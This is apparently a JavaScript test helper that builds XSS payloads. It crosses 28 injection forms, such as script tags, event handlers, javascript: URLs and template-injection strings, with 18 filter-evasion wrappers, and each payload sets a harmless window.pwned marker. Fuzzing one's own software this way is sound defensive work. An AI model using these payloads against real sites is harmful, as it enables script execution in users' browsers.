// Texts that run a script wherever they are taken for markup, an address or code. Each sets window.pwned.
const RUN = "window.pwned=1";
const SHELLS = [
  (code) => `<script>${code}</script>`,
  (code) => `"><script>${code}</script>`,
  (code) => `'><script>${code}</script>`,
  (code) => `</script><script>${code}</script>`,
  (code) => `<img src=x onerror=${code}>`,
  (code) => `"><img src=x onerror="${code}">`,
  (code) => `<svg onload=${code}>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<body onload=${code}>`,
  (code) => `<details open ontoggle=${code}>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<iframe src="javascript:parent.${code}"></iframe>`,
  (code) => `<a href="javascript:${code}">x</a>`,
  (code) => `javascript:${code}`,
  (code) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  (code) => `<input autofocus onfocus=${code}>`,
  (code) => `<video><source onerror=${code}>`,
  (code) => `<object data="javascript:${code}">`,
  (code) => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
  (code) => `<style>@import 'javascript:${code}';</style>`,
  (code) => `<template><script>${code}</script></template>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `\${${code}}`,
  (code) => `<%= ${code} %>`,
  (code) => `<!--><img src=x onerror=${code}>-->`,
  (code) => `<x onpointerover=${code} style=position:fixed;inset:0>`,
];
const WRAPS = [
  (text) => text,
  (text) => text.toUpperCase().replace("WINDOW.PWNED", "window.pwned"),
  (text) => `before ${text} after`,
  (text) => `"${text}"`,
  (text) => `'${text}'`,
  (text) => text.replaceAll(" ", "\t"),
  (text) => text.replaceAll("<", "\u0000<"),
  (text) => `${text}\n${text}`,
  (text) => text.replaceAll("<", "&lt;"),
  (text) => encodeURIComponent(text),
  (text) => `\u202e${text}`,
  (text) => `${text}<!--`,
  (text) => `]]>${text}`,
  (text) => text.replaceAll("=", " = "),
  (text) => `__proto__ ${text}`,
  (text) => text.replaceAll("script", "scr<script>ipt"),
  (text) => `/*${text}*/`,
  (text) => `\\${text}`,
];

/** So many different texts. */
export function payloads(count) {
  return Array.from({ length: count }, (_, at) => WRAPS[Math.floor(at / SHELLS.length) % WRAPS.length](SHELLS[at % SHELLS.length](RUN)));
}
